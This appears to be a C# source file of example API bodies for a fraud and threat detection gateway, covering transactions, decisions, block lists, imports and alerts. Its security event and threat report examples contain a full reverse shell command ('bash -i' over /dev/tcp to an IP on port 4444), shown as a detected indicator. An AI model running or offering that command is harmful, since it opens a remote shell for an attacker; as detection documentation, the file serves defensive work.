using System.Text.Json.Nodes;
using Platform.Contracts;

namespace Platform.Gateway;

/// <summary>Bodies that work, for the API page.</summary>
internal static class Examples
{
    private const string TransactionJson = """
        {"id":"tx-000001","time":"2026-01-31T12:00:00Z","kind":"payment","amount":129.90,"currency":"EUR",
         "account":"card-0042","counterparty":"terminal-17","device":"device-9","country":"DE","channel":"web"}
        """;

    private const string ReasonsJson = """[{"code":"amount-spike","text":"8.1 deviations above the usual","contribution":0.91}]""";

    private static readonly Dictionary<Type, string> Bodies = new()
    {
        [typeof(Transaction)] = TransactionJson,
        [typeof(IngestResult)] = """
            {"accepted":498,"duplicates":1,"unlisted":0,
             "rejected":[{"index":3,"errors":[{"field":"amount","message":"Above 0 is expected."}]}]}
            """,
        [typeof(Decision)] = $$"""
            {"id":"tx-000001","transaction":{{TransactionJson}},"decidedAt":"2026-01-31T12:00:00.012Z","score":0.91,"verdict":"block",
             "reasons":{{ReasonsJson}},"model":{"name":"isolation-forest","version":"3","score":0.77},"rulesVersion":"5b1f0a9c"}
            """,
        [typeof(RuleText)] = """
            {"text":"rules:\n  - id: night\n    when: night == 1 and amountZ > 3\n    weight: 0.6\n    reason: At night\n"}
            """,
        [typeof(RuleChoice)] = """{"version":"5b1f0a9c77d2"}""",
        [typeof(ListDefinition)] = """{"kind":"block","field":"counterparty","description":"known mule accounts"}""",
        [typeof(NewListEntries)] = """
            {"entries":[{"value":"acc-0042","expiresAt":"2026-12-31T00:00:00Z","reason":"chargeback of May"},{"value":"acc-0043"}]}
            """,
        [typeof(RemovedListValues)] = """{"values":["acc-0042"]}""",
        [typeof(SecurityEventBatch)] = """
            {"events":[{"id":"ev-000001","time":"2026-01-31T12:00:00Z","kind":"process","source":{"product":"linux"},"user":"ann",
             "host":"web-1","fields":{"Image":"/bin/bash","CommandLine":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}}]}
            """,
        [typeof(ThreatReport)] = """
            {"threats":[{"id":"0f8e1c5a9b3d4e7fa1b2c3d4e5f60718","type":"execution","severity":"critical","confidence":0.75,
             "source":"sigma","rule":{"title":"A shell is connected to the network","id":"cecc1367-517c-412d-843d-2fb2aa69f0b5",
             "author":"Platform","license":"Apache-2.0"},"entity":{"kind":"user","id":"ann"},"eventId":"ev-000001",
             "indicators":[{"name":"CommandLine","text":"CommandLine is what the rule looks for.",
             "value":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}],
             "recommendedActions":["Stop the process if nobody owns it."],"attackTechniques":["T1059.004"],
             "detectedAt":"2026-01-31T12:00:00Z"}]}
            """,
        [typeof(ImportRequest)] = """{"file":"2026/payments.csv.gz","mapping":"fraud-handbook","id":"history2026"}""",
        [typeof(Import)] = ImportJson,
        [typeof(ImportPage)] = $$"""{"items":[{{ImportJson}}]}""",
        [typeof(Alert)] = AlertJson,
        [typeof(AlertPage)] = $$"""{"items":[{{AlertJson}}],"next":"AQje8Y5Wd0AANWYxYzBl"}""",
    };

    private const string ImportJson = """
        {"id":"history2026","file":"2026/payments.csv.gz","status":"running","createdAt":"2026-01-31T12:00:00Z",
         "updatedAt":"2026-01-31T12:00:41Z","progress":{"phase":"importing","rows":565322,"done":204000,"accepted":203998,"duplicates":0,
         "rejected":2,"rowsPerSecond":5120.4,"secondsLeft":70.6}}
        """;

    private const string AlertJson = $$"""
        {"id":"5f1c0e2a9b7d4e6f8a0b1c2d","sequence":42,"entity":"card-0042","reason":"amount-spike","severity":"high","score":0.91,
         "verdict":"block","count":3,"firstDecisionId":"tx-000001","lastDecisionId":"tx-000009","amount":129.90,"currency":"EUR",
         "reasons":{{ReasonsJson}},"raisedAt":"2026-01-31T12:00:00.012Z","updatedAt":"2026-01-31T12:04:10Z"}
        """;

    /// <summary>Two lines of NDJSON.</summary>
    public static JsonNode Lines { get; } = JsonValue.Create(string.Join('\n', OneLine("tx-000001"), OneLine("tx-000002")));

    /// <summary>The example of a record; null when there is none.</summary>
    public static JsonNode? Of(Type? type) => type is not null && Bodies.TryGetValue(type, out var json) ? JsonNode.Parse(json) : null;

    /// <summary>A problem as it is answered with a status.</summary>
    public static JsonNode? Problem(string status) => JsonNode.Parse(status is "400"
        ? """{"title":"One or more validation errors occurred.","status":400,"errors":{"amount":["A number is expected, above 0."]}}"""
        : $$"""{"title":"What happened, in a few words.","status":{{status}},"detail":"What to do about it."}""");

    private static string OneLine(string id) =>
        TransactionJson.ReplaceLineEndings("").Replace("tx-000001", id, StringComparison.Ordinal);
}
